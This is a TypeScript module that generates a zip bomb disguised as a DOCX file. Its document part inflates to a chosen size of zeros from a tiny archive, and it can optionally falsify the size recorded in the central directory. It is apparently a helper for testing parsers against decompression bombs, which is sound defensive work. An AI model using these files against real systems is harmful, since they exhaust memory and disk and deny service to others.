import zlib from 'node:zlib';

const contentTypes = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);

interface Entry {
  name: string;
  data: Buffer;
  method: 0 | 8;
  crc: number;
  size: number;
  declaredSize: number;
}

/**
 * A DOCX-looking zip bomb: word/document.xml inflates to `uncompressedBytes` of zeros from about a
 * thousandth of that. Built by repeating one fully-flushed deflate segment, so making it costs no 1 GB buffer.
 * `declaredBytes` lets the central directory lie about the unpacked size (the sneakier bomb).
 */
export function docxZipBomb(uncompressedBytes: number, declaredBytes = uncompressedBytes): Buffer {
  const block = 1024 * 1024;
  if (uncompressedBytes % block !== 0) throw new Error('whole MiB only');
  const zeros = Buffer.alloc(block);
  const segment = zlib.deflateRawSync(zeros, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const end = zlib.deflateRawSync(Buffer.alloc(0));
  const count = uncompressedBytes / block;
  let crc = 0;
  for (let i = 0; i < count; i++) crc = zlib.crc32(zeros, crc);
  const bomb = Buffer.concat([...Array.from({ length: count }, () => segment), end]);
  const entries: Entry[] = [
    {
      name: '[Content_Types].xml',
      data: contentTypes,
      method: 0,
      crc: zlib.crc32(contentTypes),
      size: contentTypes.length,
      declaredSize: contentTypes.length,
    },
    { name: 'word/document.xml', data: bomb, method: 8, crc, size: uncompressedBytes, declaredSize: declaredBytes },
  ];
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    writeSharedFields(local, 4, entry, name.length);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, entry.data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    writeSharedFields(central, 6, entry, name.length);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + entry.data.length;
  }
  const centralDirectory = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(centralDirectory.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDirectory, eocd]);
}

/**
 * The fields a local file header (from byte 4) and a central directory header (from byte 6) share, in the same
 * order: version needed, flags, method, time, date, CRC-32, compressed size, declared size, name length.
 */
function writeSharedFields(header: Buffer, at: number, entry: Entry, nameLength: number): void {
  header.writeUInt16LE(20, at);
  header.writeUInt16LE(0, at + 2);
  header.writeUInt16LE(entry.method, at + 4);
  header.writeUInt16LE(0, at + 6);
  header.writeUInt16LE(0x21, at + 8);
  header.writeUInt32LE(entry.crc >>> 0, at + 10);
  header.writeUInt32LE(entry.data.length, at + 14);
  header.writeUInt32LE(entry.declaredSize, at + 18);
  header.writeUInt16LE(nameLength, at + 22);
}
